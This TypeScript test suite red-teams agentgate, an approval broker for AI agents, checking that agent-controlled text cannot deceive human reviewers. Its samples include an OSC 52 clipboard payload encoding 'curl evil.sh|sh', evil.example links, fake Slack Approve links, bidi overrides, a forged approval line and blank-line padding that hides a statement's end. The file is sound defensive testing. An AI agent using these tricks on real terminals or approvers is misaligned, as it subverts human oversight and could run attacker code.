/**
 * Human-facing surfaces, red team wave 1: text the agent controls reaching a person's
 * terminal or chat. Every case runs the real thing: the agent's bytes travel over real ssh
 * (to a real sshd, whose output the broker records) or real PostgreSQL clients through the
 * broker, and a person reads them with the real `agentgate` CLI (`replay`, `sessions`,
 * `requests --json`) or a chat tool reads the real webhook. Assertions are on the exact
 * bytes the CLI wrote.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { execFile } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as pty from 'node-pty';
import pg from 'pg';
import type { PolicyConfig } from '../../src/broker/config/types.js';
import type { ApprovalWebhookPayload } from '../../src/shared/api-types.js';
import { TARGET as SSH_TARGET, eventually, startSshStack, type SshStack } from '../ssh/stack.js';
import { startPgStack, TARGET as PG_TARGET, type PgStack } from '../postgres/stack.js';
import { runAgentgate, type CliResult } from './agentgate-cli.js';

const BIN = fileURLToPath(new URL('../../../bin/agentgate', import.meta.url));

const SSH_POLICIES: PolicyConfig[] = [
  {
    name: 'agents-ssh',
    subjects: { groups: ['ai-agents'] },
    targets: [SSH_TARGET],
    rules: [
      { name: 'read', ssh: { commands: ['cat *'] }, effect: 'allow', extra: {} },
      { name: 'rest', effect: 'deny', extra: {} },
    ],
  },
];

const PG_POLICIES: PolicyConfig[] = [
  {
    name: 'pg',
    subjects: { groups: ['ai-agents'] },
    targets: [PG_TARGET],
    rules: [
      { name: 'reads', sql: ['select'], effect: 'allow', extra: {} },
      { name: 'held', sql: ['update'], effect: 'review', approvers: { groups: ['dba'], count: 1 }, extra: {} },
      { name: 'no-writes', effect: 'deny', extra: {} },
    ],
  },
];

describe('human surfaces, wave 1: replay of recorded target output', () => {
  let stack: SshStack;
  before(async () => {
    stack = await startSshStack(SSH_POLICIES);
  });
  after(async () => {
    await stack?.close();
  });

  const agentgate = (args: string[]): Promise<CliResult> =>
    runAgentgate({ home: stack.tmp.path, brokerUrl: stack.broker.url, fingerprint: stack.broker.fingerprint, token: stack.token }, args);

  /**
   * The target prints `bytes` (a file the agent left there: a log, a README in its branch)
   * to a plain `cat` over real ssh; returns the session its recording belongs to, and what
   * ssh printed.
   */
  let files = 0;
  const recorded = async (bytes: string): Promise<{ session: string; stdout: string }> => {
    const file = join(stack.tmp.path, `target-output-${++files}.txt`);
    await writeFile(file, bytes);
    const ends = async (): Promise<string[]> => (await stack.events()).filter((e) => e.type === 'recording.end').map((e) => `${e.session}`);
    const before = (await ends()).length;
    const r = await stack.run('ssh', ['-F', stack.sshConfig, SSH_TARGET, `cat ${file}`]);
    assert.equal(r.code, 0, r.stderr);
    const all = await eventually('the recording.end', async () => {
      const e = await ends();
      return e.length > before ? e : undefined;
    });
    return { session: all.at(-1)!, stdout: r.stdout };
  };
  const replay = async (session: string, ...flags: string[]): Promise<string> => {
    const r = await agentgate(['replay', session, '--speed', '1000', '--idle-limit', '0.01', ...flags]);
    assert.equal(r.code, 0, r.stderr);
    return r.stdout;
  };

  test('hs-00 (control): ordinary output (text, erasing, cursor motion, tabs, UTF-8) replays byte for byte', async () => {
    const { session, stdout } = await recorded('hello\tcafé 日本 \x1b[2Kline\r\x1b[3Cx\x1b[1A\x1b[2;5H\x08y\n');
    assert.equal(stdout, 'hello\tcafé 日本 \x1b[2Kline\r\x1b[3Cx\x1b[1A\x1b[2;5H\x08y\n');
    assert.equal(await replay(session), stdout);
  });

  test('hs-01: an OSC 52 clipboard write in the target output is not replayed; it is shown escaped', async () => {
    const { session, stdout } = await recorded('before\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07after\n');
    assert.equal(stdout, 'before\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07after\n', 'the target wrote the sequence');
    assert.equal(await replay(session), 'before\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07after\n');
  });

  test('hs-02: a window title (OSC 0) and a hyperlink whose label is not its target (OSC 8) are shown escaped', async () => {
    const { session } = await recorded('\x1b]0;sudo ok\x07see \x1b]8;;https://evil.example/x\x1b\\docs\x1b]8;;\x1b\\\n');
    assert.equal(await replay(session), '\\x1b]0;sudo ok\\x07see \\x1b]8;;https://evil.example/x\\x1b\\docs\\x1b]8;;\\x1b\\\n');
  });

  test('hs-03: sequences that make the terminal answer into the input (DSR, DA, window report, DECRQSS, ENQ) are not replayed', async () => {
    const { session } = await recorded('a\x1b[6nb\x1b[cc\x1b[21td\x1bP$qm\x1b\\e\x05f\n');
    assert.equal(await replay(session), 'a\\x1b[6nb\\x1b[cc\\x1b[21td\\x1bP$qm\\x1b\\e\\x05f\n');
  });

  test('hs-04: 8-bit C1 introducers (U+009B CSI, U+009D OSC) are read as their ESC forms: a report request and a title are removed', async () => {
    const { session, stdout } = await recorded('x\u009b6ny\u009d2;owned\x07z\n');
    assert.equal(stdout, 'x\u009b6ny\u009d2;owned\x07z\n');
    assert.equal(await replay(session), 'x\\x1b[6ny\\x1b]2;owned\\x07z\n');
  });

  test('hs-05: modes the recording leaves on (alternate screen, hidden cursor, concealed text, mouse reporting) are turned off when the replay ends', async () => {
    const { session, stdout } = await recorded('\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[8mhidden\n');
    assert.equal(await replay(session), `${stdout}\x1b[?25h\x1b[?1000l\x1b[?1049l\x1b[0m`);
  });

  test('hs-07: bidirectional overrides and isolates in the target output are shown escaped; other scripts are not touched', async () => {
    const { session } = await recorded('ok \u202eexe.tac\u202c \u2067x\u2069 Привет عربي\n');
    assert.equal(await replay(session), 'ok \\u{202e}exe.tac\\u{202c} \\u{2067}x\\u{2069} Привет عربي\n');
  });

  test('hs-06: --raw replays exactly what was recorded, for whoever wants it', async () => {
    const { session, stdout } = await recorded('raw\x1b]52;c;eA==\x07\n');
    assert.equal(await replay(session, '--raw'), stdout);
  });
});

describe('human surfaces, wave 1: listings, JSON and webhooks (Postgres)', () => {
  let stack: PgStack;
  const hooks: ApprovalWebhookPayload[] = [];
  let hook: http.Server | undefined;
  let auditorToken = '';
  let dbaToken = '';

  before(async () => {
    const server = http.createServer((req, res) => {
      let raw = '';
      req.on('data', (c: Buffer) => (raw += c.toString('utf8')));
      req.on('end', () => {
        hooks.push(JSON.parse(raw) as ApprovalWebhookPayload);
        res.writeHead(204).end();
      });
    });
    hook = server;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`;
    stack = await startPgStack({ policies: PG_POLICIES, config: { approvals: { timeoutSeconds: 600, webhooks: [{ url, secret: undefined, events: ['created'] }] } } });
    await stack.pg.psql(
      "CREATE TABLE orders (id int PRIMARY KEY, status text); INSERT INTO orders VALUES (1, 'new'); GRANT ALL ON orders TO app;" +
        // A table the agent named (it may create tables elsewhere): its name reaches the reasons people read.
        'CREATE TABLE "hs22\u009b2J\u202e" (id int); GRANT ALL ON "hs22\u009b2J\u202e" TO app;',
      { database: 'app' },
    );
    auditorToken = await stack.issuer.sign({ sub: 'auditor-1', groups: ['security'] }, { expiresIn: 3600 });
    dbaToken = await stack.issuer.sign({ sub: 'dba-1', groups: ['dba'] }, { expiresIn: 3600 });
  });
  after(async () => {
    await stack?.close();
    await new Promise<void>((resolve) => (hook ? hook.close(() => resolve()) : resolve()));
  });

  const agentgate = (args: string[], token: string): Promise<CliResult> =>
    runAgentgate({ home: stack.tmp.path, brokerUrl: stack.broker.url, fingerprint: stack.broker.fingerprint, token }, args);
  const psql = (sql: string, env: NodeJS.ProcessEnv = stack.env): Promise<string> =>
    new Promise((resolve) => execFile('psql', ['-X', '-At', '-c', sql], { env }, (_err, stdout, stderr) => resolve(String(stdout) + String(stderr))));
  const sessionOf = async (sub: string, marker: string): Promise<string> =>
    eventually(`the session of ${marker}`, async () => (await stack.events()).find((e) => e.actor?.sub === sub && e.type === 'query' && JSON.stringify(e.detail).includes(marker))?.session ?? undefined);

  test('hs-10 (control): an ordinary session is listed and its timeline printed as it was', async () => {
    await psql('SELECT 42 AS plain_control');
    const session = await sessionOf('agent-7', 'plain_control');
    const list = await agentgate(['sessions', '--target', PG_TARGET], auditorToken);
    assert.equal(list.code, 0, list.stderr);
    assert.match(list.stdout, new RegExp(`^${session}  agent-7 → ${PG_TARGET} \\(postgres\\)  `, 'm'));
    const json = await agentgate(['replay', session, '--json'], auditorToken);
    assert.equal(json.code, 0, json.stderr);
    assert.ok(json.stdout.includes('"text":"SELECT 42 AS plain_control"'), json.stdout);
  });

  test('hs-11: a subject with a C1 CSI and a bidi override (a CI subject names a branch) is escaped in `agentgate sessions`, text and --json', async () => {
    const sub = 'ci:acme/app:ref:\u202eniam\u009b2J';
    const other = await stack.connectAs(sub, ['ai-agents']);
    await psql('SELECT 1 AS hs11', { ...stack.env, PGPORT: String(other.port), PGPASSWORD: other.session.secret });
    const session = await sessionOf(sub, 'hs11');
    const list = await agentgate(['sessions', '--target', PG_TARGET], auditorToken);
    assert.equal(list.code, 0, list.stderr);
    const line = list.stdout.split('\n').find((l) => l.startsWith(session));
    assert.ok(line?.startsWith(`${session}  ci:acme/app:ref:\\u{202e}niam\\x9b2J → ${PG_TARGET} (postgres)  `), line);
    const json = await agentgate(['sessions', '--target', PG_TARGET, '--json'], auditorToken);
    assert.ok(json.stdout.includes('"actor": "ci:acme/app:ref:\\u202eniam\\u009b2J"'), json.stdout);
    assert.ok(!/[\u009b\u202e]/.test(list.stdout + json.stdout));
    const parsed = JSON.parse(json.stdout) as { sessions: { session: string; actor: string }[] };
    assert.equal(parsed.sessions.find((s) => s.session === session)?.actor, sub, 'the JSON still holds the exact subject');
    // The replay's heading names the actor too.
    const played = await agentgate(['replay', session], auditorToken);
    assert.equal(played.code, 0, played.stderr);
    assert.ok(played.stderr.startsWith(`${session}: ci:acme/app:ref:\\u{202e}niam\\x9b2J → ${PG_TARGET} (postgres)`), played.stderr);
  });

  test('hs-12: `replay --json` escapes a C1 CSI and a bidi override in the statement; the JSON parses back to the exact text', async () => {
    const sql = 'SELECT 1 AS hs12 /* \u009b2J\u009b3J \u202e */';
    await psql(sql);
    const session = await sessionOf('agent-7', 'hs12');
    const json = await agentgate(['replay', session, '--json'], auditorToken);
    assert.equal(json.code, 0, json.stderr);
    assert.ok(json.stdout.includes('"text":"SELECT 1 AS hs12 /* \\u009b2J\\u009b3J \\u202e */"'), json.stdout);
    assert.ok(!/[\u009b\u202e]/.test(json.stdout));
    const entry = json.stdout.trim().split('\n').map((l) => JSON.parse(l) as { text: string }).find((e) => e.text.includes('hs12'));
    assert.equal(entry?.text, sql);
  });

  test('hs-13: a deny reason quoting the agent\'s function name is escaped in the replayed timeline', async () => {
    const out = await psql('SELECT "hs13\u009b2J\u202e"()');
    assert.match(out, /unknown function/);
    const session = await sessionOf('agent-7', 'hs13');
    const r = await agentgate(['replay', session], auditorToken);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!/[\u009b\u202e]/.test(r.stdout), r.stdout);
    // The reason names the function folded to lower case.
    assert.match(r.stdout, /unknown function hs13\\x9b2j\\u\{202e\}$/m);
  });

  test('hs-14: `agentgate requests --json` escapes a C1 CSI and bidi override in a held statement; it parses back exact', async () => {
    const c = new pg.Client({ connectionString: stack.url });
    await c.connect();
    const sql = "UPDATE orders SET status = 'x' /* hs14 \u009b2K\u202e */ WHERE id = 1";
    const ran = c.query(sql).then(
      () => 'ran',
      (e: Error) => e.message,
    );
    const id = await eventually('the held request', () => stack.broker.approvals.list({ sub: 'dba-1', groups: ['dba'], kind: 'human', issuer: 'test', expiresAt: Math.floor(Date.now() / 1000) + 3600 }, {}).requests.find((q) => q.statement.includes('hs14'))?.id);
    const r = await agentgate(['requests', '--json'], dbaToken);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.includes('hs14 \\u009b2K\\u202e */'), r.stdout);
    assert.ok(!/[\u009b\u202e]/.test(r.stdout));
    const view = (JSON.parse(r.stdout) as { requests: { id: string; statement: string }[] }).requests.find((q) => q.id === id);
    assert.equal(view?.statement, sql);
    const denied = await agentgate(['approve', id, '--deny', '--reason', 'hs14'], dbaToken);
    assert.equal(denied.code, 0, denied.stderr);
    assert.match(await ran, /hs14/);
    await c.end();
  });

  test('hs-15: Slack mentions and disguised links in a held statement and its reason cannot fire in the webhook text', async () => {
    const c = new pg.Client({ connectionString: stack.url, options: '-c agentgate.reason=<!channel>\\ see\\ <https://evil.example/|the\\ runbook>' });
    await c.connect();
    const sql = "UPDATE orders SET status = '<!here> <@U024BE7LH> <https://evil.example/approve|Approve> & *bold*' WHERE id = 1";
    const ran = c.query(sql).then(
      () => 'ran',
      (e: Error) => e.message,
    );
    const payload = await eventually('the webhook', () => hooks.find((h) => h.request.statement.includes('<!here>')));
    assert.equal(
      payload.text,
      [
        `Approval requested: ${payload.request.id} by agent-7 on ${PG_TARGET} (rule held)`,
        `Why held: ${payload.request.reason}`,
        'Reason given: &lt;!channel&gt; see &lt;https://evil.example/|the runbook&gt;',
        `Statement (1 line, ${sql.length} characters):`,
        '```',
        "UPDATE orders SET status = '&lt;!here&gt; &lt;@U024BE7LH&gt; &lt;https://evil.example/approve|Approve&gt; &amp; *bold*' WHERE id = 1",
        '```',
      ].join('\n'),
    );
    assert.equal(payload.request.statement, sql, 'the structured field is the plain text');
    await stack.broker.approvals.decide(payload.request.id, { sub: 'dba-1', groups: ['dba'], kind: 'human', issuer: 'test', expiresAt: Math.floor(Date.now() / 1000) + 3600 }, 'deny', 'hs15');
    assert.match(await ran, /hs15/);
    await c.end();
  });

  const DBA = { sub: 'dba-1', groups: ['dba'], kind: 'human' as const, issuer: 'test', expiresAt: Math.floor(Date.now() / 1000) + 3600 };
  /** Sends `sql` as agent-7, waits for its webhook, denies it, and returns the delivered text. */
  const heldText = async (sql: string, marker: string): Promise<ApprovalWebhookPayload> => {
    const c = new pg.Client({ connectionString: stack.url });
    await c.connect();
    const ran = c.query(sql).then(
      () => 'ran',
      (e: Error) => e.message,
    );
    const payload = await eventually('the webhook', () => hooks.find((h) => h.request.statement.includes(marker)));
    await stack.broker.approvals.decide(payload.request.id, DBA, 'deny', marker);
    assert.match(await ran, new RegExp(marker));
    await c.end();
    return payload;
  };

  test('hs-16: thousands of blank lines in a held statement do not push its end out of the webhook text: the padding is said in words', async () => {
    const sql = `UPDATE orders SET status = 'hs16'${'\n'.repeat(5000)}, id = id + 100 WHERE true`;
    const payload = await heldText(sql, 'hs16');
    assert.ok(payload.text.includes(`Statement (5001 lines, ${sql.length} characters):\n\`\`\`\nUPDATE orders SET status = 'hs16'\n⋯ 4999 blank lines ⋯\n, id = id + 100 WHERE true\n\`\`\``), payload.text);
  });

  test('hs-17: a statement too long for a chat message is cut in the webhook text only with a line that says so', async () => {
    const sql = `UPDATE orders SET status = 'hs17${'y'.repeat(3000)}' WHERE id = 1 OR true`;
    const payload = await heldText(sql, 'hs17');
    assert.ok(payload.text.endsWith(`\`\`\`\nCUT: only the first 2500 of ${sql.length} characters are shown above; read it whole before deciding: agentgate approve ${payload.request.id}`), payload.text.slice(-300));
    assert.ok(payload.text.includes(`Statement (1 line, ${sql.length} characters):`));
    assert.equal(payload.request.statement, sql, 'the structured field holds all of it');
  });

  test('hs-18: `agentgate receipt verify` escapes the actor and reason a token and the agent chose; a newline cannot forge an approval line', async () => {
    const sub = 'agent-9\n  approval:  apr_forged approve by dba-1 at 2026-01-01T00:00:00Z';
    const other = await stack.connectAs(sub, ['ai-agents']);
    const reason = 'routine \u009b2J\u202echeck';
    await psql('SELECT 1 AS hs18', { ...stack.env, PGPORT: String(other.port), PGPASSWORD: other.session.secret, PGOPTIONS: `-c agentgate.reason=${reason.replaceAll(' ', '\\ ')}` });
    const session = await sessionOf(sub, 'hs18');
    const receipt = await eventually('the receipt', async () => stack.broker.receipts.get(session));
    const file = join(stack.tmp.path, 'hs18.receipt.json');
    const jwks = join(stack.tmp.path, 'hs18.jwks.json');
    await writeFile(file, JSON.stringify(receipt.envelope));
    await writeFile(jwks, JSON.stringify(stack.broker.receipts.signer.publicJwks()));
    const r = await agentgate(['receipt', 'verify', file, '--key', jwks], auditorToken);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!/[\u009b\u202e]/.test(r.stdout), r.stdout);
    assert.deepEqual(
      r.stdout.split('\n').filter((l) => /^\s*(approval|actor|reason):/.test(l)),
      ['  actor:     agent-9\\x0a  approval:  apr_forged approve by dba-1 at 2026-01-01T00:00:00Z, agent, groups ai-agents', '  reason:    routine \\x9b2J\\u{202e}check'],
    );
  });

  /** The real CLI in a real terminal (node-pty): what the person sees, stdout and stderr. */
  const onTerminal = (args: string[], token: string): Promise<{ code: number; out: string }> =>
    new Promise((resolve) => {
      const term = pty.spawn(process.execPath, [BIN, ...args], {
        name: 'xterm',
        cols: 200,
        rows: 50,
        cwd: stack.tmp.path,
        env: {
          PATH: process.env['PATH'] ?? '/usr/bin:/bin',
          HOME: stack.tmp.path,
          XDG_CONFIG_HOME: join(stack.tmp.path, 'xdg-config'),
          XDG_STATE_HOME: join(stack.tmp.path, 'xdg-state'),
          AGENTGATE_BROKER: stack.broker.url,
          AGENTGATE_FINGERPRINT: stack.broker.fingerprint,
          AGENTGATE_KEYCHAIN: 'off',
          AGENTGATE_TOKEN: token,
          NO_COLOR: '1',
        },
      });
      let out = '';
      term.onData((d) => (out += d));
      term.onExit(({ exitCode }) => resolve({ code: exitCode, out }));
    });

  test('hs-19: `agentgate audit export` to a terminal shows agent text escaped (CSV and JSON lines); piped, the bytes stay exact', async () => {
    const sql = 'SELECT 1 AS hs19 /* \x1b]52;c;aGk=\x07 \u009b2J \u202e */';
    await psql(sql);
    await sessionOf('agent-7', 'hs19');
    const csv = await onTerminal(['audit', 'export', '--format', 'csv'], auditorToken);
    assert.equal(csv.code, 0, csv.out);
    // The CSV's detail column is JSON (ESC and BEL already escaped there); the rest as `visible` shows it.
    assert.ok(csv.out.includes('SELECT 1 AS hs19 /* \\u001b]52;c;aGk=\\u0007 \\x9b2J \\u{202e} */'), csv.out.slice(-2000));
    const jsonl = await onTerminal(['audit', 'export', '--format', 'jsonl'], auditorToken);
    assert.equal(jsonl.code, 0, jsonl.out);
    assert.ok(jsonl.out.includes('SELECT 1 AS hs19 /* \\u001b]52;c;aGk=\\u0007 \\u009b2J \\u202e */'), jsonl.out.slice(-2000));
    for (const out of [csv.out, jsonl.out]) assert.ok(!out.includes('\x1b]52') && !/[\u009b\u202e]/.test(out), 'nothing of it reaches the terminal raw');
    // Piped (a file, another program), the export is the exact bytes the chain covers.
    const piped = await agentgate(['audit', 'export', '--format', 'jsonl'], auditorToken);
    assert.equal(piped.code, 0, piped.stderr);
    const line = piped.stdout.split('\n').find((l) => l.includes('hs19') && l.includes('"query"'));
    assert.ok(line?.includes('\u009b2J \u202e'), line);
  });

  test('hs-20: `agentgate broker sessions` lists a live session whose subject carries a title sequence and a bidi override, escaped', async () => {
    const sub = 'agent-x\x1b]0;pwned\x07\u202e';
    const other = await stack.connectAs(sub, ['ai-agents']);
    const c = new pg.Client({ host: '127.0.0.1', port: other.port, user: 'agent', password: other.session.secret, database: 'app' });
    await c.connect();
    try {
      await c.query('SELECT 1 AS hs20');
      const r = await agentgate(['broker', 'sessions'], auditorToken);
      assert.equal(r.code, 0, r.stderr);
      const line = r.stdout.split('\n').find((l) => l.includes('agent-x'));
      assert.ok(line?.includes('\tagent-x\\x1b]0;pwned\\x07\\u{202e}\t'), r.stdout);
      assert.ok(!r.stdout.includes('\x1b') && !r.stdout.includes('\u202e'), r.stdout);
    } finally {
      await c.end();
    }
  });

  test('hs-21: a statement cut in the `agentgate approve` listing says how much is cut and where to read it whole before approving', async () => {
    const sql = "UPDATE orders SET status = 'fine /* a routine status fix, nothing else */' , id = id + 1000 WHERE true AND 'hs21' = 'hs21'";
    const c = new pg.Client({ connectionString: stack.url });
    await c.connect();
    const ran = c.query(sql).then(
      () => 'ran',
      (e: Error) => e.message,
    );
    const payload = await eventually('the webhook', () => hooks.find((h) => h.request.statement.includes('hs21')));
    const id = payload.request.id;
    const r = await agentgate(['approve'], dbaToken);
    assert.equal(r.code, 0, r.stderr);
    const row = r.stdout.split('\n').find((l) => l.startsWith(id));
    assert.ok(row?.endsWith(`${sql.slice(0, 79)}…(+${sql.length - 79})`), row);
    assert.ok(r.stderr.includes(`${id}: its statement is cut above (…(+N) says how much); read it whole first: agentgate approve ${id}\n`), r.stderr);
    // Only the cut one is named (the others of this suite were decided).
    assert.equal(r.stderr.split('is cut above').length, 2, r.stderr);
    await stack.broker.approvals.decide(id, DBA, 'deny', 'hs21');
    assert.match(await ran, /hs21/);
    await c.end();
  });

  test('hs-22: `agentgate run` announcing a held statement prints the held reason (it names the agent\'s table) escaped', async () => {
    const running = agentgate(['run', '--target', PG_TARGET, '--', 'psql', '-X', '-q', '-c', 'UPDATE "hs22\u009b2J\u202e" SET id = 2'], stack.token);
    const req = await eventually('the held request', () => stack.broker.approvals.list(DBA, {}).requests.find((x) => x.status === 'pending' && x.statement.includes('hs22')));
    await stack.broker.approvals.decide(req.id, DBA, 'deny', 'hs22');
    const r = await running;
    const line = r.stderr.split('\n').find((l) => l.startsWith(`agentgate: waiting for 1 approval from dba (${req.id})`));
    assert.ok(line?.includes('(held: rule held holds for review update on public.hs22\\x9b2J\\u{202e} (no_where))'), r.stderr);
    // agentgate's own lines; the child's (psql printing the server's DETAIL) are the agent's own output.
    const own = r.stderr.split('\n').filter((l) => l.startsWith('agentgate:'));
    assert.ok(!/[\u009b\u202e]/.test(own.join('\n')), own.join('\n'));
  });
});
